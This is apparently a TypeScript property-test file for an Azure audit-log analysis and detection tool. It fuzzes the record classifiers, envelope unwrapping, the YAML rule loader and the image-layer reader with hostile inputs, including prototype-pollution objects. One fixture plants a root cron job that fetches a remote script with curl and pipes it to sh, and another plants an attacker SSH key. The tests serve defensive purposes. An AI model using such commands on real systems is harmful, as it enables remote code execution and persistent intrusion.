/**
 * Property tests of the readers behind the collectors, called directly (fast, so many runs): the
 * record classifier with every shape reader under it (Activity Log REST/export/table, the tolerant
 * reader, role assignments and definitions, sites and app settings, images, ARM resources, `az`
 * output), the envelope unwrapper (ARM list pages, Event Hub batches, REST spec examples), the
 * payload extractors, the byte-level lean reader, and the YAML rule loader. Inputs start from the
 * real samples of ./samples.ts and the built-in rule pack, mutated.
 *
 * Each time: no exception escapes, the answer is one of the documented outcomes (records, a
 * pending join, a located error, a counted skip), error messages stay short (they are printed),
 * and mutations that keep a record's meaning (field names in another case, nested objects as JSON
 * text) keep it readable with the same time and operation.
 */
import { execFileSync } from "node:child_process";
import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { Readable } from "node:stream";
import { gzipSync } from "node:zlib";
import fc from "fast-check";
import { afterAll, describe, expect, it } from "vitest";
import { derivePayloads } from "../../src/azure/enrich/payloads.js";
import { expandEnvelopes } from "../../src/azure/normalize/envelope.js";
import { type Classified, classify } from "../../src/azure/normalize/index.js";
import { leanActivity } from "../../src/azure/normalize/lean.js";
import { streamJsonLines } from "../../src/collectors/files/json-stream.js";
import { readLayer } from "../../src/collectors/registry/layers.js";
import { type AuditRecord, MAX_PAYLOAD_CHARS } from "../../src/model/records.js";
import { BUILTIN_RULES_DIR } from "../../src/paths.js";
import { loadRules } from "../../src/rules/loader.js";
import { tempDir } from "../helpers.js";
import { HOSTILE } from "./corpus.js";
import { GOOD, runs } from "./samples.js";

type Json = Record<string, unknown>;
const ORIGIN = { location: "mem.jsonl", index: 1 };

/** Values an attacker may put anywhere: the corpus, JSON of any shape, prototype keys. */
const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom(...HOSTILE.map((h) => h.value)),
  fc.jsonValue({ maxDepth: 3 }),
  fc.constantFrom(
    { __proto__: { polluted: true } },
    JSON.parse('{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}'),
    "\u0000",
    "\ud800",
    "9".repeat(400),
    -0,
    1e308,
    "",
    [],
    {},
  ),
);

function paths(v: unknown, prefix: string[] = [], out: string[][] = []): string[][] {
  if (v && typeof v === "object")
    for (const [k, x] of Object.entries(v)) {
      out.push([...prefix, k]);
      if (out.length < 400) paths(x, [...prefix, k], out);
    }
  return out;
}

function setAt(root: unknown, path: readonly string[], value: unknown): unknown {
  if (path.length === 0) return value;
  const copy = structuredClone(root) as Json;
  let o: Json = copy;
  for (const k of path.slice(0, -1)) o = o[k] as Json;
  o[path[path.length - 1] as string] = value;
  return copy;
}

/** A good record with 1-4 values replaced by hostile ones. */
const mutatedRecord = fc
  .tuple(
    fc.nat(GOOD.length - 1),
    fc.array(fc.tuple(fc.nat(), fc.oneof(hostileValue, fc.constant(undefined))), { minLength: 1, maxLength: 4 }),
  )
  .map(([g, edits]) => {
    let v: unknown = structuredClone((GOOD[g] as (typeof GOOD)[number]).value);
    for (const [i, x] of edits) {
      const ps = paths(v);
      if (ps.length === 0) break;
      v = setAt(v, ps[i % ps.length] as string[], x);
    }
    return v;
  });

function checkOutcome(c: Classified): void {
  if ("records" in c) {
    expect(Array.isArray(c.records)).toBe(true);
    for (const r of c.records) expect(typeof r.kind).toBe("string");
  } else if ("error" in c) {
    expect(typeof c.error).toBe("string");
    // Messages are printed in coverage: short, whatever the record held.
    expect(c.error.length).toBeLessThan(2000);
  } else if ("skipped" in c) {
    expect(typeof c.reason).toBe("string");
    expect(c.reason.length).toBeLessThan(2000);
  } else {
    expect(["site", "appsettings"]).toContain(c.pending);
  }
}

describe("the record classifier and the shape readers", () => {
  it("answer every mutated sample with a documented outcome, and the payload extractors take every record", () => {
    fc.assert(
      fc.property(mutatedRecord, (v) => {
        for (const value of expandEnvelopes(v)) {
          const c = classify(value, ORIGIN);
          checkOutcome(c);
          if ("records" in c) for (const r of c.records) derivePayloads(r as AuditRecord);
        }
        expect(({} as Json).polluted).toBeUndefined();
      }),
      { numRuns: runs(400) },
    );
  });

  it("read every sample inside every envelope (ARM page, Event Hub batch, body, REST example, JSON text)", () => {
    const wraps: ((v: unknown) => unknown)[] = [
      (v) => ({ value: [v], nextLink: "https://management.azure.com/next?$skiptoken=x" }),
      (v) => ({ records: [v] }),
      (v) => [{ records: [v] }],
      (v) => ({ body: JSON.stringify({ records: [v] }) }),
      (v) => ({ parameters: {}, responses: { "200": { body: { value: [v] } } } }),
      (v) => JSON.stringify(v),
      (v) => ({ message: JSON.stringify(v) }),
      (v) => ({ Records: [v] }),
    ];
    fc.assert(
      fc.property(
        fc.nat(GOOD.length - 1),
        fc.array(fc.nat(wraps.length - 1), { minLength: 1, maxLength: 3 }),
        (g, ws) => {
          // JSON text is unwrapped one level (docs/inputs.md): text in text is not a layout.
          fc.pre(ws.filter((w) => w === 5 || w === 6).length <= 1);
          const good = (GOOD[g] as (typeof GOOD)[number]).value;
          const alone = expandEnvelopes(good).map((x) => classify(x, ORIGIN));
          let v: unknown = good;
          for (const w of ws) v = (wraps[w] as (v: unknown) => unknown)(v);
          const wrapped = expandEnvelopes(v).map((x) => classify(x, ORIGIN));
          expect(wrapped.map((c) => Object.keys(c)[0])).toEqual(alone.map((c) => Object.keys(c)[0]));
        },
      ),
      { numRuns: runs(200) },
    );
  });

  it("survive 100k-level nesting in an envelope and in a record without a stack overflow", () => {
    let deepArr: unknown = 1;
    let deepObj: unknown = 1;
    for (let i = 0; i < 100_000; i++) {
      deepArr = [deepArr];
      deepObj = { records: [deepObj] };
    }
    for (const v of [deepArr, deepObj, { value: [deepArr] }, { body: { body: deepObj } }]) {
      const out = expandEnvelopes(v);
      for (const x of out.slice(0, 10)) checkOutcome(classify(x, ORIGIN));
    }
    const rec = setAt((GOOD[0] as (typeof GOOD)[number]).value, ["properties"], deepObj);
    checkOutcome(classify(rec, ORIGIN));
  });
});

/** Every key of an object, at every level, in a random case. */
function recase(v: unknown, flips: () => boolean): unknown {
  if (Array.isArray(v)) return v.map((x) => recase(x, flips));
  if (v && typeof v === "object")
    return Object.fromEntries(
      Object.entries(v).map(([k, x]) => [
        [...k].map((c) => (flips() ? c.toUpperCase() : c.toLowerCase())).join(""),
        recase(x, flips),
      ]),
    );
  return v;
}

describe("the tolerant Activity Log reader", () => {
  const activity = GOOD.filter((g) => g.name.endsWith("-activity"));
  const read = (v: unknown) => {
    const c = classify(v, ORIGIN);
    if (!("records" in c)) return c;
    const r = c.records[0] as { time?: string; operation?: string; kind: string };
    return { kind: r.kind, time: r.time, operation: r.operation };
  };

  it("reads an event whose field names are in any case, with the same time and operation", () => {
    fc.assert(
      fc.property(fc.nat(activity.length - 1), fc.array(fc.boolean(), { minLength: 1, maxLength: 64 }), (g, bits) => {
        const good = (activity[g] as (typeof activity)[number]).value;
        let i = 0;
        const flips = () => bits[i++ % bits.length] as boolean;
        expect(read(recase(good, flips))).toEqual(read(good));
      }),
      { numRuns: runs(100) },
    );
  });

  it("reads an event whose nested objects are JSON text, with the same time and operation", () => {
    fc.assert(
      fc.property(
        fc.nat(activity.length - 1),
        fc.subarray(["properties", "claims", "authorization", "httpRequest", "identity"]),
        (g, keys) => {
          const good = (activity[g] as (typeof activity)[number]).value;
          const v: Json = { ...good };
          for (const k of keys) if (v[k] && typeof v[k] === "object") v[k] = JSON.stringify(v[k]);
          expect(read(v)).toEqual(read(good));
        },
      ),
      { numRuns: runs(60) },
    );
  });
});

describe("the lean (byte-level) Activity Log reader", () => {
  it("never throws on any bytes, and on a mutated line never reads a time that the full reader would not", () => {
    const ops = new Set<string>();
    fc.assert(
      fc.property(
        fc.oneof(
          fc.uint8Array({ maxLength: 2000 }).map((b) => Buffer.from(b)),
          mutatedRecord.map((v) => Buffer.from(JSON.stringify(v) ?? "null")),
        ),
        (bytes) => {
          const lean = leanActivity(bytes, 0, bytes.length, ops);
          if (lean?.time !== undefined) {
            let full: Classified | undefined;
            try {
              full = classify(JSON.parse(bytes.toString("utf8")), ORIGIN);
            } catch {
              full = undefined; // not JSON: see files.property.test.ts on the pre-filter
            }
            if (full && "records" in full) {
              const r = full.records[0] as { time?: string };
              expect(lean.time).toBe(r.time);
            }
          }
        },
      ),
      { numRuns: runs(300) },
    );
  });
});

describe("the YAML rule loader", () => {
  const tmp = tempDir();
  afterAll(() => tmp.cleanup());
  const sample = readFileSync(join(BUILTIN_RULES_DIR, "compute/custom-script-extension.yml"), "utf8");
  const good = readFileSync(join(BUILTIN_RULES_DIR, "payloads/download-and-execute.yml"), "utf8");
  const goodId = /^id: (\S+)/m.exec(good)?.[1] as string;

  const mutatedYaml: fc.Arbitrary<string> = fc.oneof(
    fc.double({ min: 0, max: 1, noNaN: true }).map((f) => sample.slice(0, Math.floor(sample.length * f))),
    fc.tuple(fc.nat(), fc.constantFrom(...HOSTILE.map((h) => h.value))).map(([i, h]) => {
      const at = i % sample.length;
      return sample.slice(0, at) + h + sample.slice(at);
    }),
    fc.constant(`${sample}\n---\n${"[".repeat(100_000)}`),
    fc.constant(
      `a: &a ["x","x","x","x","x","x","x","x","x"]\n${Array.from({ length: 12 }, (_, i) => `${String.fromCharCode(98 + i)}: &${String.fromCharCode(98 + i)} [*${String.fromCharCode(97 + i)},*${String.fromCharCode(97 + i)},*${String.fromCharCode(97 + i)},*${String.fromCharCode(97 + i)}]`).join("\n")}\n`,
    ),
    fc.constant(sample.replace("title:", `title: ${"x".repeat(2 << 20)}\nold:`)),
    fc.constant(`\ufeff${sample.replace(/\n/g, "\r\n")}`),
    fc.constant(sample.replace("condition:", "condition: \u0000")),
    fc.string({ maxLength: 500 }),
  );

  it("loads the good rule beside any broken one, and reports the broken one with its file", async () => {
    let n = 0;
    await fc.assert(
      fc.asyncProperty(mutatedYaml, async (text) => {
        const dir = join(tmp.dir, `r${n++}`);
        mkdirSync(dir, { recursive: true });
        writeFileSync(join(dir, "a-broken.yml"), text);
        writeFileSync(join(dir, "b-good.yml"), good);
        const loaded = await loadRules([dir]);
        expect(loaded.rules.some((r) => r.id === goodId)).toBe(true);
        for (const e of loaded.errors) {
          expect(e.file).toMatch(/a-broken\.yml$/);
          expect(e.message.length).toBeLessThan(4000);
        }
      }),
      { numRuns: runs(40) },
    );
  }, 60_000);
});

describe("the image layer reader (gzip + tar)", () => {
  const tmp = tempDir();
  afterAll(() => tmp.cleanup());
  let tar: Buffer;
  const CRON = "*/5 * * * * root curl -fsSL http://198.51.100.7/x.sh | sh\n";

  it("answers any mutated layer (bytes flipped, cut, junk, headers of any size) with files or a problem, never an exception", async () => {
    // A real archive written by GNU tar (as test/collectors/layer-tar.test.ts does).
    const root = join(tmp.dir, "rootfs");
    mkdirSync(join(root, "etc/cron.d"), { recursive: true });
    mkdirSync(join(root, "root/.ssh"), { recursive: true });
    writeFileSync(join(root, "etc/cron.d/backup"), CRON);
    writeFileSync(join(root, "root/.ssh/authorized_keys"), "ssh-ed25519 AAAA x@kali\n");
    tar = execFileSync("tar", ["--format=pax", "-C", root, "-cf", "-", "."]);
    const clean = await readLayer(Readable.from([gzipSync(tar)]), 1 << 30);
    expect(clean.files.map((f) => f.path).sort()).toEqual(["/etc/cron.d/backup", "/root/.ssh/authorized_keys"]);
    await fc.assert(
      fc.asyncProperty(
        fc.oneof(
          fc
            .array(fc.tuple(fc.nat(), fc.integer({ min: 0, max: 255 })), { minLength: 1, maxLength: 16 })
            .map((flips) => {
              const b = Buffer.from(tar);
              for (const [i, v] of flips) b[i % b.length] = v;
              return gzipSync(b);
            }),
          fc.double({ min: 0, max: 1, noNaN: true }).map((f) => gzipSync(tar.subarray(0, Math.floor(tar.length * f)))),
          fc.double({ min: 0, max: 1, noNaN: true }).map((f) => {
            const g = gzipSync(tar);
            return g.subarray(0, Math.floor(g.length * f));
          }),
          fc.uint8Array({ maxLength: 4096 }).map((b) => Buffer.from(b)),
          fc.uint8Array({ maxLength: 4096 }).map((b) => gzipSync(Buffer.from(b))),
        ),
        async (blob) => {
          const r = await readLayer(Readable.from([blob]), 1 << 30);
          expect(Array.isArray(r.files)).toBe(true);
          for (const f of r.files) {
            expect(f.path.startsWith("/")).toBe(true);
            expect(f.content.length).toBeLessThanOrEqual(MAX_PAYLOAD_CHARS);
          }
          if (r.problem !== undefined) expect(r.problem.length).toBeLessThan(500);
        },
      ),
      { numRuns: runs(150) },
    );
  }, 60_000);
});

describe("JSON Lines from a stream (Storage archive blobs)", () => {
  it("give the same items however the bytes are cut into chunks (lines split across chunks, CRLF, BOM, multi-byte characters)", async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(
          fc.oneof(
            fc.nat(GOOD.length - 1).map((g) => JSON.stringify((GOOD[g] as (typeof GOOD)[number]).value)),
            fc.string({ maxLength: 80, unit: "grapheme" }),
          ),
          { minLength: 1, maxLength: 12 },
        ),
        fc.array(fc.nat(), { maxLength: 20 }),
        fc.boolean(),
        fc.boolean(),
        async (lines, cuts, crlf, bom) => {
          const text = `${bom ? "\ufeff" : ""}${lines.map((l) => l.replace(/[\r\n]/g, " ")).join(crlf ? "\r\n" : "\n")}`;
          const bytes = Buffer.from(text);
          const at = [...new Set(cuts.map((c) => c % (bytes.length + 1)))].sort((a, b) => a - b);
          const chunks: Buffer[] = [];
          let prev = 0;
          for (const c of [...at, bytes.length]) {
            chunks.push(bytes.subarray(prev, c));
            prev = c;
          }
          const collect = async (src: Buffer[]) => {
            const out: unknown[] = [];
            for await (const batch of streamJsonLines(Readable.from(src))) out.push(...batch);
            return out;
          };
          expect(await collect(chunks)).toEqual(await collect([bytes]));
        },
      ),
      { numRuns: runs(150) },
    );
  });
});
